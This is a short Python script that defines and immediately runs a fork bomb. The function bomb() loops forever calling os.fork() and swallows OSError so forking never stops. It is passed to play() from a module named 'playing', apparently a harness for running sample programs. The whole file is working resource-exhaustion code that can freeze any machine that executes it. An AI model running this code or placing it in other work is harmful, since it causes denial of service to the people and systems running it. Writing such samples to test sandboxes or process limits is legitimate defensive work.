"""Forks in every process it has, for ever."""

import os

from playing import play


def bomb() -> None:
    while True:
        try:
            os.fork()
        except OSError:
            continue


play(bomb)
